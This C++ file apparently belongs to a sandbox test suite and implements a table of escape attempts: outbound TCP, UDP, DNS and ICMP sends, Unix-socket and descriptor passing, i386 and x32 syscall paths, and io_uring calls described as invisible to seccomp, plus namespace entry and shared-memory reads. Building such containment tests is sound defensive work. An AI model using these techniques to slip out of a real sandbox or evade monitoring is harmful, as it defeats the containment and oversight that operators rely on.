// Network and IPC: reaching a listener outside, or holding a socket that could.

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "tests/cases/attacker.h"

namespace attacker {
namespace {

constexpr int kMptcp = 262;           // IPPROTO_MPTCP, Linux 5.6
constexpr long kX32Bit = 0x40000000;  // arch/x86/include/asm/unistd.h
constexpr long kI386Socket = 359;     // arch/x86/entry/syscalls/syscall_32.tbl
constexpr int kSendSecret = MSG_NOSIGNAL;

sockaddr_in Address(const Args& a) {
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(std::atoi(a[1].c_str())));
  inet_pton(AF_INET, a[0].c_str(), &address.sin_addr);
  return address;
}

const sockaddr* Generic(const sockaddr_in& address) { return reinterpret_cast<const sockaddr*>(&address); }

int OpenSocket(int family, int type, int protocol = 0) {
  return static_cast<int>(Step("socket", socket(family, type | SOCK_CLOEXEC, protocol)));
}

int ConnectAndSend(int fd, const sockaddr* address, socklen_t size) {
  if (fd < 0 || Step("connect", connect(fd, address, size)) < 0) return 1;
  Step("send", send(fd, "reached\n", 8, kSendSecret));
  close(fd);
  return 0;
}

int ConnectStream(const Args& a, int protocol) {
  const sockaddr_in address = Address(a);
  return ConnectAndSend(OpenSocket(AF_INET, SOCK_STREAM, protocol), Generic(address), sizeof(address));
}

int Tcp(const Args& a) { return ConnectStream(a, IPPROTO_TCP); }
int Mptcp(const Args& a) { return ConnectStream(a, kMptcp); }

// sendto with MSG_FASTOPEN connects without a call to connect().
int FastOpen(const Args& a) {
  const sockaddr_in address = Address(a);
  const int fd = OpenSocket(AF_INET, SOCK_STREAM);
  return Step("sendto", sendto(fd, "reached\n", 8, MSG_FASTOPEN | kSendSecret, Generic(address), sizeof(address))) < 0;
}

int Udp(const Args& a) {
  const sockaddr_in address = Address(a);
  const int fd = OpenSocket(AF_INET, SOCK_DGRAM);
  return Step("sendto", sendto(fd, "reached\n", 8, kSendSecret, Generic(address), sizeof(address))) < 0;
}

// A DNS question for TEXT, the classic way out of a network that is only half off.
int Dns(const Args& a) {
  std::string packet{"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12};
  packet += static_cast<char>(a[2].size());
  packet += a[2] + std::string("\x00\x00\x01\x00\x01", 5);
  const sockaddr_in address = Address(a);
  const int fd = OpenSocket(AF_INET, SOCK_DGRAM);
  return Step("sendto", sendto(fd, packet.data(), packet.size(), kSendSecret, Generic(address), sizeof(address))) < 0;
}

int Ping(const Args& a) {
  icmphdr echo{};
  echo.type = ICMP_ECHO;
  echo.un.echo.id = htons(static_cast<uint16_t>(std::atoi(a[1].c_str())));
  const sockaddr_in address = Address({a[0], "0"});
  int fd = OpenSocket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  if (fd < 0) fd = OpenSocket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
  echo.checksum = static_cast<uint16_t>(~(htons(ICMP_ECHO << 8) + echo.un.echo.id));
  return Step("sendto", sendto(fd, &echo, sizeof(echo), kSendSecret, Generic(address), sizeof(address))) < 0;
}

struct UnixAddress {
  sockaddr_un address{};
  socklen_t size = 0;
};

// A leading @ stands for the zero byte of an abstract name.
UnixAddress Unix(const std::string& path) {
  UnixAddress result;
  result.address.sun_family = AF_UNIX;
  path.copy(result.address.sun_path, sizeof(result.address.sun_path) - 1);
  const bool abstract = path[0] == '@';
  if (abstract) result.address.sun_path[0] = '\0';
  result.size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + path.size() + (abstract ? 0 : 1));
  return result;
}

int UnixStream(const Args& a) {
  const UnixAddress to = Unix(a[0]);
  return ConnectAndSend(OpenSocket(AF_UNIX, SOCK_STREAM), reinterpret_cast<const sockaddr*>(&to.address), to.size);
}

int UnixDatagram(const Args& a) {
  const UnixAddress to = Unix(a[0]);
  const int fd = OpenSocket(AF_UNIX, SOCK_DGRAM);
  return Step("sendto",
              sendto(fd, "reached\n", 8, kSendSecret, reinterpret_cast<const sockaddr*>(&to.address), to.size)) < 0;
}

// An accomplice on the host hands a descriptor over a socket; what it reads is shown.
int TakeDescriptor(const Args& a) {
  const UnixAddress to = Unix(a[0]);
  const int fd = OpenSocket(AF_UNIX, SOCK_STREAM);
  if (Step("connect", connect(fd, reinterpret_cast<const sockaddr*>(&to.address), to.size)) < 0) return 1;
  char byte = 0;
  iovec part{&byte, 1};
  alignas(cmsghdr) char control[CMSG_SPACE(sizeof(int))];
  msghdr message{};
  message.msg_iov = &part;
  message.msg_iovlen = 1;
  message.msg_control = control;
  message.msg_controllen = sizeof(control);
  if (Step("recvmsg", recvmsg(fd, &message, 0)) < 0) return 1;
  const cmsghdr* head = CMSG_FIRSTHDR(&message);
  if (head == nullptr || head->cmsg_type != SCM_RIGHTS) return 1;
  int received = -1;
  std::memcpy(&received, CMSG_DATA(head), sizeof(received));
  return Show(received) ? 0 : 1;
}

// Socket families that no developer's tool needs; each is one more way out or one more hole in the kernel.
int HoldSocket(const Args& a) {
  if (OpenSocket(std::atoi(a[0].c_str()), std::atoi(a[1].c_str()), std::atoi(a[2].c_str())) < 0) return 1;
  Hold();
  return 0;
}

int HoldI386Socket(const Args&) {
#if defined(__x86_64__)
  long result = -1;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(kI386Socket), "b"(AF_UNIX), "c"(SOCK_STREAM), "d"(0) : "memory");
  if (result >= 0) {
    Hold();
    return 0;
  }
  errno = static_cast<int>(-result);
#endif
  return Step("int 0x80 socket", -1) < 0;
}

int HoldX32Socket(const Args&) {
#if defined(__x86_64__)
  if (Step("x32 socket", syscall(kX32Bit | SYS_socket, AF_UNIX, SOCK_STREAM, 0)) >= 0) {
    Hold();
    return 0;
  }
#endif
  return 1;
}

// One submission through io_uring: calls that a seccomp filter never sees. Returns the result of the operation.
class Ring {
 public:
  bool Open() {
    io_uring_params params{};
    fd_ = static_cast<int>(Step("io_uring_setup", syscall(SYS_io_uring_setup, 4, &params)));
    if (fd_ < 0) return false;
    const size_t size = params.cq_off.cqes + params.cq_entries * sizeof(io_uring_cqe);
    rings_ = Map(size, IORING_OFF_SQ_RING);
    entries_ = static_cast<io_uring_sqe*>(Map(params.sq_entries * sizeof(io_uring_sqe), IORING_OFF_SQES));
    params_ = params;
    return rings_ != MAP_FAILED && static_cast<void*>(entries_) != MAP_FAILED;
  }

  long Submit(const io_uring_sqe& entry) {
    auto* base = static_cast<unsigned char*>(rings_);
    auto* tail = reinterpret_cast<std::atomic<unsigned>*>(base + params_.sq_off.tail);
    auto* array = reinterpret_cast<unsigned*>(base + params_.sq_off.array);
    const unsigned mask = *reinterpret_cast<unsigned*>(base + params_.sq_off.ring_mask);
    const unsigned at = tail->load() & mask;
    entries_[at] = entry;
    array[at] = at;
    tail->fetch_add(1);
    if (Step("io_uring_enter", syscall(SYS_io_uring_enter, fd_, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0)) < 0)
      return -1;
    auto* head = reinterpret_cast<std::atomic<unsigned>*>(base + params_.cq_off.head);
    const auto* done = reinterpret_cast<io_uring_cqe*>(base + params_.cq_off.cqes);
    const unsigned done_mask = *reinterpret_cast<unsigned*>(base + params_.cq_off.ring_mask);
    const long result = done[head->fetch_add(1) & done_mask].res;
    if (result < 0) errno = static_cast<int>(-result);
    return Step("io_uring operation", result < 0 ? -1 : result);
  }

 private:
  void* Map(size_t size, long long offset) {
    return mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd_, static_cast<off_t>(offset));
  }

  int fd_ = -1;
  io_uring_params params_{};
  void* rings_ = nullptr;
  io_uring_sqe* entries_ = nullptr;
};

int RingConnect(const Args& a) {
  Ring ring;
  const sockaddr_in address = Address(a);
  const int fd = OpenSocket(AF_INET, SOCK_STREAM);
  if (fd < 0 || !ring.Open()) return 1;
  io_uring_sqe entry{};
  entry.opcode = IORING_OP_CONNECT;
  entry.fd = fd;
  entry.addr = reinterpret_cast<uintptr_t>(&address);
  entry.off = sizeof(address);
  return ring.Submit(entry) < 0;
}

int RingWrite(const Args& a) {
  Ring ring;
  if (!ring.Open()) return 1;
  io_uring_sqe entry{};
  entry.opcode = IORING_OP_OPENAT;
  entry.fd = AT_FDCWD;
  entry.addr = reinterpret_cast<uintptr_t>(a[0].c_str());
  entry.open_flags = O_WRONLY;
  const long fd = ring.Submit(entry);
  return fd >= 0 && WriteAll(static_cast<int>(fd), a[1]) ? 0 : 1;
}

int HoldRing(const Args&) {
  Ring ring;
  if (!ring.Open()) return 1;
  Hold();
  return 0;
}

int EnterNetwork(const Args& a) {
  const std::string path = "/proc/" + a[2] + "/ns/net";
  const int fd = static_cast<int>(Step(path.c_str(), open(path.c_str(), O_RDONLY | O_CLOEXEC)));
  if (fd < 0 || Step("setns", setns(fd, CLONE_NEWNET)) < 0) return 1;
  return Tcp(a);
}

int ReadSharedMemory(const Args& a) {
  const int id = static_cast<int>(Step("shmget", shmget(static_cast<key_t>(std::atoi(a[0].c_str())), 0, 0)));
  void* at = id < 0 ? MAP_FAILED : shmat(id, nullptr, SHM_RDONLY);
  if (at == MAP_FAILED) return 1;
  return WriteAll(STDOUT_FILENO, static_cast<const char*>(at)) ? 0 : 1;
}

// Run outside, by the suite: a segment that holds SECRET until stdin ends.
int OfferSharedMemory(const Args& a) {
  const int id = shmget(static_cast<key_t>(std::atoi(a[0].c_str())), 4096, IPC_CREAT | IPC_EXCL | 0666);
  if (Step("shmget", id) < 0) return 1;
  std::strncpy(static_cast<char*>(shmat(id, nullptr, 0)), a[1].c_str(), 4095);
  Hold();
  return shmctl(id, IPC_RMID, nullptr) < 0;
}

constexpr Attack kAttacks[] = {
    {"tcp", "ADDRESS PORT", 2, Tcp},
    {"mptcp", "ADDRESS PORT", 2, Mptcp},
    {"fast-open", "ADDRESS PORT", 2, FastOpen},
    {"udp", "ADDRESS PORT", 2, Udp},
    {"dns", "ADDRESS PORT TEXT", 3, Dns},
    {"ping", "ADDRESS ID", 2, Ping},
    {"unix-stream", "PATH|@NAME", 1, UnixStream},
    {"unix-datagram", "PATH|@NAME", 1, UnixDatagram},
    {"take-descriptor", "PATH|@NAME", 1, TakeDescriptor},
    {"hold-socket", "FAMILY TYPE PROTOCOL", 3, HoldSocket},
    {"hold-i386-socket", "", 0, HoldI386Socket},
    {"hold-x32-socket", "", 0, HoldX32Socket},
    {"ring-connect", "ADDRESS PORT", 2, RingConnect},
    {"ring-write", "PATH TEXT", 2, RingWrite},
    {"hold-ring", "", 0, HoldRing},
    {"enter-network", "ADDRESS PORT PID", 3, EnterNetwork},
    {"read-shared-memory", "KEY", 1, ReadSharedMemory},
    {"offer-shared-memory", "KEY SECRET", 2, OfferSharedMemory},
};

}  // namespace

std::span<const Attack> NetworkAttacks() { return kAttacks; }

}  // namespace attacker
